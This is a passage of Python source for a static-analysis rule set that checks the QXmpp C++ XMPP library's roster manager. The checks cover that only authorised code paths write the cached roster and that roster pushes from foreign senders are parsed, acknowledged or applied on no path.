            return st + ('store',)
        if n['k'] == 'call' and (not n.get('op')) and depth < 3:
            for h in prog.callee_fns(f, n):
                if h.qname.startswith(('QXmpp::Private::TaskData::', TP + '::')) and h.entry is not None and h.id != f.id:
                    sub = _seqs(prog, h, roles, depth + 1)
                    if len(sub) == 1:
                        return st + next(iter(sub))
                    return st + ('?',)
        return None
    exits, _ = cfgx.explore(g, (), transfer, lambda f, c, st: ev.ev(c, st))
    return set(exits)
