"""C12 — the roster view is the last full roster plus authorised pushes, nothing else."""
from .. import cfgx
from ..build import AnalysisBroken
from ..callgraph import connects
from ..effects import field_uses, top_function

UNITS = ['client/QXmppRosterManager.cpp', 'client/QXmppConfiguration.cpp', 'client/QXmppOutgoingClient.cpp', 'client/QXmppSaslManager.cpp', 'base/QXmppStreamManagement.cpp', 'base/Stream.cpp']
RM = 'QXmppRosterManager'
ENTRIES = 'QXmppRosterManagerPrivate::entries'
PRESENCES = 'QXmppRosterManagerPrivate::presences'
FLAG = 'QXmppRosterManagerPrivate::isRosterReceived'
FROM = 'p0.QDomElement::attribute("from")'
OWN = 'this.QXmppClientExtension::client().QXmppClient::configuration().QXmppConfiguration::jidBare()'
BARE_FROM = 'QXmppUtils::jidToBareJid(%s)' % FROM


def sender_eval(fn, empty, bare_equal):
    """abstract sender: from empty? bare(from) == own bare?  everything else unknown"""
    def custom(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) == 'QString::isEmpty' and n.get('obj') is not None and f.fmt(n['obj']) == FROM:
            return (empty,)
        bo = f.binop(nid)
        if bo and bo[0] in ('==', '!='):
            a, b = f.fmt(bo[1]), f.fmt(bo[2])
            if {a, b} == {BARE_FROM, OWN} and bare_equal is not None:
                return ((bo[0] == '==') == bare_equal,)
        return None
    ev = cfgx.Evaluator(fn, {}, custom=custom)
    return lambda f, c, st: ev.ev(c, st)


def run(prog, run):
    run.explanation = ('Who may change the cached roster (whole-function write-set of the entries map), under which sender check '
                       '(abstract evaluation of handleStanza for a foreign, non-empty sender: parse, acknowledgement and every mutation '
                       'are unreachable and the handler returns false), how a push is applied (remove/insert control dependence inside one '
                       'loop over the items under the Set case), that a non-resumed session starts from an empty cache, and which '
                       'statements maintain the presence table.')
    run.assume('history-level equality of the view with "last roster + pushes" is not decided; only the code-shape conditions it needs')
    hs = prog.fn(RM + '::handleStanza')
    r1 = run.rule('C12.R1', 'the entries map is written only by the push arm of handleStanza, the roster-result continuation of '
                            '_q_connected and QXmppRosterManagerPrivate::clear', floor=4)
    allowed = {RM + '::handleStanza': 'push arm', RM + '::_q_connected': 'roster result continuation',
               'QXmppRosterManagerPrivate::clear': 'clear'}
    conn = prog.fn(RM + '::_q_connected')
    cont_scope = _continuation_scope(prog, conn)
    for g in cont_scope:
        allowed.setdefault(top_function(prog, g).qname, 'roster result continuation (helper called only from it)')
    writes = [(f, i, k, h) for f, i, k, h in field_uses(prog, ENTRIES) if k in ('write', 'addr')]
    if not writes:
        raise AnalysisBroken('C12.R1: no write to %s found (anchor gone)' % ENTRIES)
    writes = [w for w in writes if w[3] != 'constructor initialiser']
    # a member of the manager / its private that is called only from the push arm is part of the push arm (an extracted "apply one item")
    push_helpers = {}
    for f, i, k, h in writes:
        top = top_function(prog, f)
        if top.qname in allowed or not (top.record or '').startswith(RM):
            continue
        cs = [(c, ci) for c, ci in prog.callers().get(top.id, []) if c.nodes[ci]['k'] == 'call']
        if cs and all(top_function(prog, c).id == hs.id for c, ci in cs):
            push_helpers[top.id] = [ci for c, ci in cs if c.id == hs.id]
            allowed[top.qname] = 'push arm (helper called only from handleStanza)'
    for f, i, k, h in writes:
        run.instance(r1)
        top = top_function(prog, f)
        if top.qname in allowed:
            run.ok(r1, f.loc(i), '%s in %s (%s)' % (h, top.qname, allowed[top.qname]))
        else:
            run.violation(r1, 'entries-writer#%s#%s' % (top.qname, h.split(' ')[0]), f.loc(i),
                          '%s writes the cached roster (%s) outside the authorised paths' % (top.display(), h))

    # ---- R2 sender check
    r2 = run.rule('C12.R2', 'for a non-empty from whose bare JID differs from the own bare JID: no parse, no acknowledgement, no mutation, '
                            'and handleStanza returns false', floor=5)
    sinks = []
    for i, n in hs.calls():
        cn = hs.cname(n)
        if cn in ('QXmppRosterIq::parse', 'QXmppIq::parse', 'QXmppStanza::parse') or cn.endswith('::parse') and 'Roster' in hs.fmt(i):
            sinks.append((i, 'parse'))
        elif cn in ('QXmppClient::sendPacket', 'QXmppClient::send', 'QXmppClient::reply', 'QXmppClient::sendIq'):
            sinks.append((i, 'acknowledgement ' + cn.split('::')[-1]))
    for f, i, k, h in writes:
        if f.id == hs.id:
            sinks.append((i, 'mutation ' + h))
        elif top_function(prog, f).id in push_helpers:
            for ci in push_helpers[top_function(prog, f).id]:
                if (ci, 'mutation ' + h) not in sinks:
                    sinks.append((ci, 'mutation ' + h))
    if len(sinks) < 4:
        raise AnalysisBroken('C12.R2: expected parse, sendPacket and two mutations in handleStanza, found %s' % [s[1] for s in sinks])
    foreign = sender_eval(hs, False, False)
    res = cfgx.sink_reachability(hs, foreign, [i for i, _ in sinks])
    for i, what in sinks:
        run.instance(r2)
        if res[i] is not None:
            run.violation(r2, 'handleStanza#foreign-sender#%s' % what.split(' ')[0] + ':' + what.split(' ')[-1], hs.loc(i),
                          '%s reachable for a roster IQ from a foreign entity' % what, cfgx.describe_path(hs, res[i]))
        else:
            run.ok(r2, hs.loc(i), '%s unreachable for a foreign sender' % what)
    reach = cfgx.reach_with_paths(hs, foreign)
    nret = 0
    for i, n in hs.returns():
        pos = hs.pos(i)
        if pos and pos[0] in reach:
            nret += 1
            run.instance(r2)
            v = hs.const_value(n['e']) if 'e' in n else None
            if v != ('bool', False):
                run.violation(r2, 'handleStanza#foreign-sender#returns-true', hs.loc(i),
                              'a roster IQ from a foreign entity is swallowed (return %s)' % hs.fmt(n['e']),
                              cfgx.describe_path(hs, reach[pos[0]]))
            else:
                run.ok(r2, hs.loc(i), 'foreign sender: return false', nontrivial=False)
    # sanity: authorised senders reach the sinks
    for empty, eq, label in ((True, None, 'empty from (own server)'), (False, True, 'own bare/full JID')):
        res = cfgx.sink_reachability(hs, sender_eval(hs, empty, eq), [i for i, _ in sinks])
        run.instance(r2)
        if all(res[i] is not None for i, _ in sinks):
            run.ok(r2, hs.loc(), 'push from %s is parsed, acknowledged and applied' % label)
        else:
            run.violation(r2, 'handleStanza#authorised-sender-rejected#' + label.split(' ')[0], hs.loc(),
                          'a push from %s no longer reaches %s' % (label, [w for i, w in sinks if res[i] is None]))

    # ---- R3 push application
    r3 = run.rule('C12.R3', 'for type()==Set only, each item of one loop over items() is applied: Remove => entries.remove, every other subscription type => insert (decided per enumerator)', floor=2)
    hs_writes = [(i, h) for f, i, k, h in writes if f.id == hs.id]
    if not hs_writes and push_helpers:
        _r3_through_helper(prog, run, r3, hs, writes, push_helpers)
        hs_writes = None
    if hs_writes is not None:
        _r3_inline(prog, run, r3, hs, writes, hs_writes)
    _rest_of_run(prog, run, hs, writes, cont_scope, allowed)


def _r3_through_helper(prog, run, r3, hs, writes, push_helpers):
    """the application of one pushed item lives in a helper that is called only from the items loop: the call site is checked in handleStanza, the
    remove / insert discipline and "every item is stored" inside the helper"""
    iq_types = [e['name'] for e in prog.enum('QXmppIq::Type')['enumerators']]
    sub_types = [e['name'] for e in prog.enum('QXmppRosterIq::Item::SubscriptionType')['enumerators']]
    lv = None
    for b in hs.blocks.values():
        t = b.get('term')
        if t and t.get('k') == 'rangefor' and 'QXmppRosterIq::items' in hs.fmt(t['range']):
            lv = t['loopvar']
    for gid, sites in push_helpers.items():
        g = prog.fns[gid]
        for ci in sites:
            run.instance(r3)
            reach = {t: cfgx.sink_reachability(hs, (lambda ev: (lambda f, c, st: ev.ev(c, st)))(cfgx.Evaluator(hs, {'QXmppIq::type': ('enum', 'QXmppIq::' + t)})), [ci])[ci] for t in iq_types}
            in_set = reach['Set'] is not None and all(reach[t] is None for t in iq_types if t != 'Set')
            loop = _enclosing_rangefor(hs, ci)
            args = hs.nodes[ci].get('args', [])
            item_idx = [k for k, a in enumerate(args) if hs.nodes[hs.skip(a)]['k'] == 'var' and hs.nodes[hs.skip(a)].get('decl') == lv]
            problems = []
            if not in_set:
                problems.append('not exactly under rosterIq.type() == QXmppIq::Set')
            if loop is None or 'QXmppRosterIq::items' not in loop:
                problems.append('not inside the loop over rosterIq.items()')
            if not item_idx:
                problems.append('the helper is not handed the pushed item')
            if problems:
                run.violation(r3, 'handleStanza#push-apply#helper-call', hs.loc(ci), '; '.join(problems))
                continue
            run.ok(r3, hs.loc(ci), '%s(item) is called for every item of a Set push' % g.name)
            gw = [(i, h) for f, i, k, h in writes if f.id == g.id]
            by_sub = {}
            for t in sub_types:
                ev = cfgx.Evaluator(g, {'QXmppRosterIq::Item::subscriptionType': ('enum', 'QXmppRosterIq::Item::' + t)})
                by_sub[t] = cfgx.sink_reachability(g, lambda f, c, st, ev=ev: ev.ev(c, st), [i for i, _ in gw])
            for i, h in gw:
                run.instance(r3)
                only_remove = by_sub['Remove'][i] is not None and all(by_sub[t][i] is None for t in sub_types if t != 'Remove')
                never_remove = by_sub['Remove'][i] is None and all(by_sub[t][i] is not None for t in sub_types if t != 'Remove')
                probs = []
                if h.startswith('remove') and not only_remove:
                    probs.append('remove not control-dependent on subscriptionType()==Remove')
                if h.startswith('insert') and not never_remove:
                    probs.append('insert not on the non-Remove edge')
                if h.startswith('insert'):
                    par = g.parents()
                    call = par.get(i)
                    while call is not None and g.nodes[call]['k'] != 'call':
                        call = par.get(call)
                    val = g.nodes[call]['args'][-1] if call is not None and g.nodes[call].get('args') else None
                    vn = g.nodes[g.skip(val)] if val is not None else None
                    if not (vn is not None and vn['k'] == 'var' and vn.get('vk') == 'param' and vn.get('pidx') == item_idx[0]):
                        probs.append('the stored entry is not the pushed item (it is %s)' % (g.fmt(val, inline=False)[:40] if val is not None else '?'))
                if probs:
                    run.violation(r3, 'handleStanza#push-apply#' + h.split(' ')[0], g.loc(i), '; '.join(probs))
                else:
                    run.ok(r3, g.loc(i), '%s in %s on the %s edge' % (h, g.name, 'Remove' if only_remove else 'non-Remove'))
            run.instance(r3)
            store_blocks = {g.pos(i)[0] for i, h in gw if g.pos(i) and not h.startswith(('remove', 'erase', 'take', 'clear'))}
            witness = None
            for t_ in sub_types:
                if t_ == 'Remove':
                    continue
                ev = cfgx.Evaluator(g, {'QXmppRosterIq::Item::subscriptionType': ('enum', 'QXmppRosterIq::Item::' + t_)})
                witness = cfgx.path_avoiding(g, g.entry, g.exit, store_blocks, lambda f, c, st, ev=ev: ev.ev(c, st))
                if witness is not None:
                    break
            if witness is None:
                run.ok(r3, g.loc(), 'every call of %s stores the pushed item unless it is a removal' % g.name)
            else:
                run.violation(r3, 'handleStanza#push-apply#skipped', g.loc(),
                              'there is a path through %s on which a pushed item (subscription %s) is not stored in the cache: the view is no longer the last full roster plus '
                              'every push' % (g.name, t_))


def _r3_inline(prog, run, r3, hs, writes, hs_writes):

    def reach_under(callee, enum_scope, name):
        ev = cfgx.Evaluator(hs, {callee: ('enum', enum_scope + name)})
        return cfgx.sink_reachability(hs, lambda f, c, st: ev.ev(c, st), [i for i, _ in hs_writes])
    iq_types = [e['name'] for e in prog.enum('QXmppIq::Type')['enumerators']]
    sub_types = [e['name'] for e in prog.enum('QXmppRosterIq::Item::SubscriptionType')['enumerators']]
    if 'Set' not in iq_types or 'Remove' not in sub_types:
        raise AnalysisBroken('C12.R3: QXmppIq::Set / Item::Remove enumerators not found')
    by_type = {t: reach_under('QXmppIq::type', 'QXmppIq::', t) for t in iq_types}
    by_sub = {t: reach_under('QXmppRosterIq::Item::subscriptionType', 'QXmppRosterIq::Item::', t) for t in sub_types}
    for i, h in hs_writes:
        run.instance(r3)
        # decided by abstract evaluation per enumerator, whatever the spelling (switch, if-chain, guard clauses)
        in_set = by_type['Set'][i] is not None and all(by_type[t][i] is None for t in iq_types if t != 'Set')
        if by_sub['Remove'][i] is not None and all(by_sub[t][i] is None for t in sub_types if t != 'Remove'):
            rem = True
        elif by_sub['Remove'][i] is None and all(by_sub[t][i] is not None for t in sub_types if t != 'Remove'):
            rem = False
        else:
            rem = None
        loop = _enclosing_rangefor(hs, i)
        problems = []
        if not in_set:
            problems.append('not exactly under rosterIq.type() == QXmppIq::Set')
        if loop is None or 'QXmppRosterIq::items' not in loop:
            problems.append('not inside the loop over rosterIq.items()')
        if h.startswith('remove') and rem is not True:
            problems.append('remove not control-dependent on subscriptionType()==Remove')
        if h.startswith('insert') and rem is not False:
            problems.append('insert not on the non-Remove edge')
        if h.startswith('insert'):
            # what is stored is the pushed item itself, not something merged with the old entry
            par = hs.parents()
            call = par.get(i)
            while call is not None and hs.nodes[call]['k'] != 'call':
                call = par.get(call)
            val = hs.nodes[call]['args'][-1] if call is not None and hs.nodes[call].get('args') else None
            vn = hs.nodes[hs.skip(val)] if val is not None else None
            lv = None
            for b in hs.blocks.values():
                t = b.get('term')
                if t and t.get('k') == 'rangefor' and 'QXmppRosterIq::items' in hs.fmt(t['range']):
                    lv = t['loopvar']
            same = vn is not None and vn['k'] == 'var' and vn.get('decl') == lv
            if not same and vn is not None and vn['k'] == 'var' and vn.get('vk') == 'local':
                d = hs.defs().get(vn['decl'])
                init_is_item = d and d.get('init') is not None and hs.nodes[hs.skip(d['init'])].get('decl') == lv and not d.get('assigned')
                mutated = any(c.get('obj') is not None and hs.nodes[hs.skip(c['obj'])].get('decl') == vn['decl'] and not (hs.sym(c) or {}).get('const')
                              for _, c in hs.calls())
                same = bool(init_is_item) and not mutated
            if not same:
                problems.append('the stored entry is not the pushed item (it is %s): the view is no longer the last roster plus the pushes' % (hs.fmt(val, inline=False)[:40] if val is not None else '?'))
        if problems:
            run.violation(r3, 'handleStanza#push-apply#' + h.split(' ')[0], hs.loc(i), '; '.join(problems))
        else:
            run.ok(r3, hs.loc(i), '%s under Set, in items loop, %s edge' % (h, 'Remove' if rem else 'non-Remove'))

    # every pushed item is applied: no path through the body of the items loop avoids both the remove and the store
    run.instance(r3)
    head = None
    for b in hs.blocks.values():
        t = b.get('term')
        if t and t.get('k') == 'rangefor' and 'QXmppRosterIq::items' in hs.fmt(t['range']) and b['succs'][0] is not None \
                and any(hs.pos(i) and ('b', b['succs'][0]) in hs.dom().get(('b', hs.pos(i)[0]), set()) for i, _ in hs_writes):
            head = b
    if head is None:
        run.violation(r3, 'handleStanza#push-apply#loop', hs.loc(), 'the loop that applies the pushed items was not found')
    else:
        # stores: insert / operator[] on the map, or an assignment through an iterator obtained from the map (*it = item, it.value() = item)
        store_blocks = {hs.pos(i)[0] for i, h in hs_writes if hs.pos(i) and not h.startswith(('remove', 'erase', 'take', 'clear'))}
        for i, n in list(hs.all_nodes('assign')) + [(i, n) for i, n in hs.calls() if n.get('op') == '=' and len(n.get('opargs', [])) == 2]:
            lhs = hs.nodes[hs.skip(n['l'] if n['k'] == 'assign' else n['opargs'][0])]
            it = None
            if lhs['k'] == 'call' and lhs.get('op') == '*' and lhs.get('opargs'):
                it = hs.nodes[hs.skip(lhs['opargs'][0])]
            elif lhs['k'] == 'call' and hs.cname(lhs).split('::')[-1] in ('value', 'operator*') and lhs.get('obj') is not None:
                it = hs.nodes[hs.skip(lhs['obj'])]
            elif lhs['k'] == 'un' and lhs.get('op') == '*':
                it = hs.nodes[hs.skip(lhs['e'])]
            if it is not None and it['k'] == 'var' and it.get('vk') == 'local':
                d0 = hs.single_def(it['decl'])
                dn = hs.nodes[hs.skip(d0)] if d0 is not None else {}
                if dn.get('k') == 'call' and _obj_is_entries(hs, dn) and hs.pos(i):
                    store_blocks.add(hs.pos(i)[0])
        entry = head['succs'][0]
        dom = hs.dom()
        body = {x for x in hs.blocks if ('b', entry) in dom.get(('b', x), set())}
        witness = None
        for t_ in sub_types:
            if t_ == 'Remove':
                continue          # a removal of a contact that is not cached has nothing to do
            ev = cfgx.Evaluator(hs, {'QXmppRosterIq::Item::subscriptionType': ('enum', 'QXmppRosterIq::Item::' + t_)})
            witness = cfgx.path_avoiding(hs, entry, head['id'], store_blocks, lambda f, c, st, ev=ev: ev.ev(c, st), within=body)
            if entry == head['id']:
                witness = None
            if witness is not None:
                break
        if witness is None:
            run.ok(r3, hs.loc(head['term']['range']), 'every iteration of the items loop stores the pushed item unless it is a removal')
        else:
            last = hs.blocks[witness[-1]]
            site = last['elems'][-1] if last['elems'] else head['term']['range']
            run.violation(r3, 'handleStanza#push-apply#skipped', hs.loc(site),
                          'there is a path through the body of the items loop on which a pushed item (subscription %s) is not stored in the cache (a push that is judged '
                          '"unchanged" or otherwise skipped): the view is no longer the last full roster plus every push' % t_)



def _rest_of_run(prog, run, hs, writes, cont_scope, allowed):
    conn = prog.fn(RM + '::_q_connected')
    # ---- R4 session boundary
    r4 = run.rule('C12.R4', 'a session that is not a resumption starts from an empty cache; clear() empties both maps and the flag; '
                            'a non-resumable disconnect clears', floor=6)
    conn = prog.fn(RM + '::_q_connected')
    disc = prog.fn(RM + '::_q_disconnected')
    _resumed_flag(prog, run, r4)
    clr = prog.fn('QXmppRosterManagerPrivate::clear')
    sms = prog.enum('QXmppClient::StreamManagementState')

    def ev_state(fn, name):
        ev = cfgx.Evaluator(fn, {'QXmppClient::streamManagementState': ('enum', 'QXmppClient::' + name)})
        return lambda f, c, st: ev.ev(c, st)

    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) == 'QXmppRosterManagerPrivate::clear':
            return st + ('clear',)
        if n['k'] == 'mem' and n['f'] in (FLAG, ENTRIES) and 'clear' not in st and 'read' not in st:
            return st + ('read',)
        if n['k'] == 'call' and f.cname(n) == RM + '::requestRoster':
            return st + ('request',)
        return None
    for e in sms['enumerators']:
        run.instance(r4)
        exits, _ = cfgx.explore(conn, (), transfer, ev_state(conn, e['name']))
        run.paths += len(exits)
        for st, path in exits.items():
            if e['name'] != 'ResumedStream':
                if 'clear' not in st or 'read' in st:
                    run.violation(r4, '_q_connected#no-clear#' + e['name'], conn.loc(),
                                  'new session (%s) does not clear the cached roster before using it' % e['name'],
                                  cfgx.describe_path(conn, path))
                else:
                    run.ok(r4, conn.loc(), '%s: clear() before any use of the cache' % e['name'])
            else:
                if 'clear' in st:
                    run.info(r4, conn.loc(), 'resumed stream also clears the cache (allowed, not required)')
                run.ok(r4, conn.loc(), 'ResumedStream: cache kept', nontrivial=False)
    run.instance(r4)
    exits, _ = cfgx.explore(disc, (), transfer, ev_state(disc, 'NoStreamManagement'))
    if all('clear' in st for st in exits):
        run.ok(r4, disc.loc(), 'non-resumable disconnect clears the cache')
    else:
        run.violation(r4, '_q_disconnected#no-clear', disc.loc(), 'disconnect without stream management keeps the cached roster')
    # clear() body
    run.instance(r4)
    got = set()
    for i, n in clr.calls():
        if n.get('obj') is not None and clr.nodes[clr.skip(n['obj'])].get('f') in (ENTRIES, PRESENCES) and clr.sym(n)['name'] == 'clear':
            if clr.pos(i) and ('b', clr.pos(i)[0]) in clr.pdom().get(('b', clr.entry), set()) | {('b', clr.pos(i)[0])} and _on_all_paths(clr, i):
                got.add(clr.nodes[clr.skip(n['obj'])]['f'])
    for i, n in clr.all_nodes('assign'):
        l = clr.nodes[clr.skip(n['l'])]
        if l.get('f') == FLAG and clr.const_value(n['r']) == ('bool', False) and _on_all_paths(clr, i):
            got.add(FLAG)
    if got == {ENTRIES, PRESENCES, FLAG}:
        run.ok(r4, clr.loc(), 'clear() empties entries, presences and resets isRosterReceived unconditionally')
    else:
        run.violation(r4, 'clear#incomplete', clr.loc(), 'clear() does not reset %s' % sorted({ENTRIES, PRESENCES, FLAG} - got))
    # the two slots are wired to the client's connected / disconnected signals
    wired = {}
    for c in connects(prog):
        if c['kind'] == 'slot' and c['target']['qname'] in (RM + '::_q_connected', RM + '::_q_disconnected'):
            wired[c['target']['qname']] = c['signal']['qname']
    run.instance(r4)
    if wired.get(RM + '::_q_connected') == 'QXmppClient::connected' and wired.get(RM + '::_q_disconnected') == 'QXmppClient::disconnected':
        run.ok(r4, 'src/client/QXmppRosterManager.cpp', 'slots connected to QXmppClient::connected / disconnected')
    else:
        run.violation(r4, 'session-slots#not-connected', 'src/client/QXmppRosterManager.cpp', 'session boundary slots wiring changed: %s' % wired)
    # roster result continuation: clear, then insert every item, then flag
    run.instance(r4)
    cont = [l for l in cont_scope if any(k in ('write',) for f, i, k, h in writes if f.id == l.id)]
    if not cont:
        raise AnalysisBroken('C12.R4: roster-result continuation not found in _q_connected')
    cont = cont[0]
    w = [(i, h) for f, i, k, h in writes if f.id == cont.id]
    clears = [i for i, h in w if h.startswith('clear')]
    inserts = [i for i, h in w if h.startswith('insert')]
    flags = [i for i, n in cont.all_nodes('assign') if cont.nodes[cont.skip(n['l'])].get('f') == FLAG and cont.const_value(n['r']) == ('bool', True)]
    okc = clears and inserts and flags and all(cont.node_dominates(clears[0], x) for x in inserts) \
        and all(_over_all_items(cont, x) for x in inserts)
    if okc:
        run.ok(r4, cont.loc(), 'full roster: entries.clear() dominates the inserts; one insert per item; received flag set')
    else:
        run.violation(r4, '_q_connected#roster-result#refill', cont.loc(), 'full roster result does not replace the cache (clear/insert-per-item/flag)')

    # ---- R5 presence table
    r5 = run.rule('C12.R5', 'the presence table is written only by _q_presenceReceived (Available => assign, Unavailable => remove) and clear()', floor=3)
    pr = prog.fn(RM + '::_q_presenceReceived')
    for f, i, k, h in field_uses(prog, PRESENCES):
        if k not in ('write', 'addr') or h == 'constructor initialiser':
            continue
        run.instance(r5)
        top = top_function(prog, f)
        if top.qname == 'QXmppRosterManagerPrivate::clear':
            run.ok(r5, f.loc(i), 'clear()', nontrivial=False)
            continue
        if top.id != pr.id:
            run.violation(r5, 'presences-writer#' + top.qname, f.loc(i), '%s writes the presence table (%s)' % (top.display(), h))
            continue
        case = None
        for c, pol in f.atomic_assertions_at(i):
            if isinstance(pol, tuple) and isinstance(pol[1], dict) and 'QXmppPresence::type' in f.fmt(c):
                case = pol[1].get('name')
        if 'remove' in h and case == 'QXmppPresence::Unavailable':
            run.ok(r5, f.loc(i), 'Unavailable => remove(resource)')
        elif 'assign' in h and case == 'QXmppPresence::Available':
            run.ok(r5, f.loc(i), 'Available => presences[bare][resource] = presence')
        else:
            run.violation(r5, '_q_presenceReceived#%s#%s' % (case, h.split(' ')[-1]), f.loc(i),
                          'presence table written with %s under case %s' % (h, case))
    r6_bound_address(prog, run)
    r7_keys(prog, run)
    r8_direct_delivery(prog, run)


def r6_bound_address(prog, run):
    """the own address pushes are compared with is the address the server bound"""
    from . import C02
    rid = run.rule('C12.R6', 'the sender check of roster pushes compares with configuration().jidBare(); after resource binding that is the address the server bound: on the '
                             'success path of the binding continuation the configuration\'s user and domain are both set from the bound address (a server may bind another '
                             'address than the login name; pushes stamped with it would otherwise be refused as foreign and answered with an error)', floor=1)
    field, vals, ptrs, replaces_listener, rec = C02.listener_model(prog)
    bind = [v for v in vals if v.split('::')[-1].startswith('Bind')]
    if len(bind) != 1:
        raise AnalysisBroken('C12.R6: the resource-binding listener was not identified among %s' % vals)
    primary = {}
    for nm in ('user', 'domain'):
        g = prog.fn('QXmppConfiguration::' + nm)
        for _, r in g.returns():
            if 'e' in r and g.nodes[g.skip(r['e'])]['k'] == 'mem':
                primary[g.nodes[g.skip(r['e'])]['f']] = nm
    if len(primary) != 2:
        raise AnalysisBroken('C12.R6: the members behind QXmppConfiguration::user() / domain() were not identified')
    wcache = {}

    def written(g, depth=0):
        if g.id in wcache:
            return wcache[g.id]
        wcache[g.id] = frozenset()
        out = set()
        for i, n in g.all_nodes('assign'):
            l = g.nodes[g.skip(n['l'])]
            if l.get('f') in primary:
                out.add(primary[l['f']])
        for i, n in g.calls():
            if n.get('op') == '=' and n.get('opargs') and g.nodes[g.skip(n['opargs'][0])].get('f') in primary:
                out.add(primary[g.nodes[g.skip(n['opargs'][0])]['f']])
            if depth < 2 and not n.get('op'):
                for c in prog.callee_fns(g, n):
                    if c.entry is not None and c.record == 'QXmppConfiguration':
                        out |= written(c, depth + 1)
        wcache[g.id] = frozenset(out)
        return wcache[g.id]
    sites = 0
    for v, f, i, lams in C02.listener_continuations(prog, bind):
        for lam in lams:
            sites += 1
            run.instance(rid)

            def custom(g, nid, st):
                n = g.nodes[nid]
                if n['k'] == 'call' and (g.cname(n) or '') in ('std::get_if', 'std::holds_alternative'):
                    first = ((g.sym(n) or {}).get('targs') or '').split(',')[0]
                    return ('BoundAddress' in first,)
                return None
            ev = cfgx.Evaluator(lam, {}, custom=custom)

            def transfer(g, nid, st):
                n = g.nodes[nid]
                if n['k'] != 'call' or n.get('op'):
                    return None
                out = st
                for c in prog.callee_fns(g, n):
                    if c.entry is None or c.record != 'QXmppConfiguration':
                        continue
                    def bound_in(x, depth=0):
                        for j in g.walk(x):
                            m = g.nodes[j]
                            if m['k'] == 'mem' and 'BoundAddress::' in (m.get('f') or ''):
                                return True
                            if m['k'] == 'var' and m.get('vk') == 'local' and depth < 3:
                                d_ = g.single_def(m.get('decl'))
                                if d_ is not None and bound_in(d_, depth + 1):
                                    return True
                        return False
                    from_bound = any(bound_in(a) for a in n.get('args', []))
                    if from_bound:
                        for w in sorted(written(c)):
                            if w not in out:
                                out = out + (w,)
                return out if out != st else None
            # the success arm: the continuation itself under "the result holds a bound address", or - when the result is dispatched with
            # visit(overloaded{...}) - the visitor that takes the bound address
            visitors = [l for l in prog.lambdas_in(lam) if len(l.params) == 1 and 'BoundAddress' in (l.params[0].get('t') or '')]
            if visitors:
                exits = {}
                for l in visitors:
                    ex, _ = cfgx.explore(l, (), transfer, None, max_states=20000)
                    exits.update(ex)
            else:
                exits, _ = cfgx.explore(lam, (), transfer, lambda g, c, st: ev.ev(c, st), max_states=20000)
            bad = [(st, w) for st, w in exits.items() if not {'user', 'domain'} <= set(st)]
            if bad:
                missing = sorted({'user', 'domain'} - set(bad[0][0]))
                run.violation(rid, '%s#bound-address-not-adopted:%s' % (f.outer_name(), '+'.join(missing)), lam.loc(),
                              'the resource-binding continuation in %s does not store the bound %s in the configuration: jidBare() keeps the login address, and roster pushes the server '
                              'stamps with the bound address are rejected as foreign' % (f.display()[:50], ' and '.join(missing)))
            else:
                run.ok(rid, lam.loc(), 'user and domain are set from the bound address on every success path (%d)' % len(exits))
    if not sites:
        raise AnalysisBroken('C12.R6: the continuation of the resource binding was not found')


def _over_all_items(f, nid):
    """the node sits in a range-for over rosterIq.items() - or, in a helper that is handed the items, over that parameter"""
    pos = f.pos(nid)
    if pos is None:
        return False
    for (_, b, i) in f.edges_dominating(pos[0]):
        t = f.blocks[b].get('term')
        if t and t['k'] == 'rangefor' and i == 0 and 'range' in t:
            if 'QXmppRosterIq::items' in f.fmt(t['range']):
                return True
            r = f.nodes[f.skip(t['range'])]
            if r['k'] == 'var' and r.get('vk') == 'param' and 'QXmppRosterIq::Item' in (r.get('t') or ''):
                return True
    return False


def _obj_is_entries(f, call):
    o = call.get('obj')
    if o is None:
        return False
    m = f.nodes[f.skip(o)]
    return m['k'] == 'mem' and m.get('f') == ENTRIES


def _continuation_scope(prog, conn):
    """the continuation lambdas of _q_connected plus the functions that are called only from them (an extracted continuation body)"""
    scope = list(prog.lambdas_in(conn))
    ids = {f.id for f in scope}
    changed = True
    while changed:
        changed = False
        for f in list(scope):
            for i, n in f.calls():
                if n.get('op'):
                    continue
                for g in prog.callee_fns(f, n):
                    if g.id in ids or g.entry is None or not g.file.endswith('QXmppRosterManager.cpp'):
                        continue
                    if all(c.id in ids for c, _ in prog.callers().get(g.id, [])):
                        scope.append(g)
                        ids.add(g.id)
                        changed = True
    return scope


def _on_all_paths(fn, nid):
    """the node's block post-dominates the entry (executed on every path)"""
    pos = fn.pos(nid)
    if pos is None:
        return False
    return ('b', pos[0]) in fn.pdom().get(('b', fn.entry), set())


def _enclosing_rangefor(fn, nid):
    """text of the range expression of the innermost range-for whose body contains the node (by dominance of the loop-head's true edge)"""
    pos = fn.pos(nid)
    if pos is None:
        return None
    best = None
    for (_, b, i) in fn.edges_dominating(pos[0]):
        t = fn.blocks[b].get('term')
        if t and t['k'] == 'rangefor' and i == 0 and 'range' in t:
            best = fn.fmt(t['range'])
    return best


def _resumed_flag(prog, run, rid):
    """streamManagementState() == ResumedStream must not be a leftover of an earlier session (shared with C10.R1 / C07.R5)"""
    from . import C10
    sub = type(run)(run.prop, run.tier, run.seed)
    fns, byid = C10._scope(prog)
    C10.r1(prog, sub, fns, byid)
    run.instance(rid)
    hits = [v for v in sub.violations if 'm_streamResumed' in v['key']]
    if hits:
        run.violation(rid, 'C2sStreamManager::m_streamResumed#stale', hits[0]['site'],
                      'the "stream resumed" flag is not reset for every new stream: a later session that binds afresh is reported as ResumedStream, so the roster manager '
                      'neither clears its cache nor requests the roster and shows the contacts and presences of the earlier session')
    else:
        run.ok(rid, 'src/client/QXmppOutgoingClient.cpp', 'ResumedStream cannot be a leftover: m_streamResumed is reset for every new stream (C10.R1)')


_KEY_CONVERSIONS = ('QString::toLower', 'QString::toUpper', 'QString::toCaseFolded', 'QString::trimmed', 'QString::simplified', 'QString::normalized', 'QString::left',
                    'QString::mid', 'QString::chopped', 'QString::section')


def _conversion_in(f, nid, depth=0):
    for j in f.walk(nid):
        m = f.nodes[j]
        if m['k'] == 'call' and (f.cname(m) or '') in _KEY_CONVERSIONS:
            return j
        if m['k'] == 'var' and m.get('vk') == 'local' and depth < 3:
            for d in f.all_defs(m.get('decl')):
                if d is not None:
                    r = _conversion_in(f, d, depth + 1)
                    if r is not None:
                        return r
    return None


def r7_keys(prog, run):
    rid = run.rule('C12.R7', 'the full roster and the pushes address the cache by the same key: every access to the entries map by a key taken from a received item uses the item\'s '
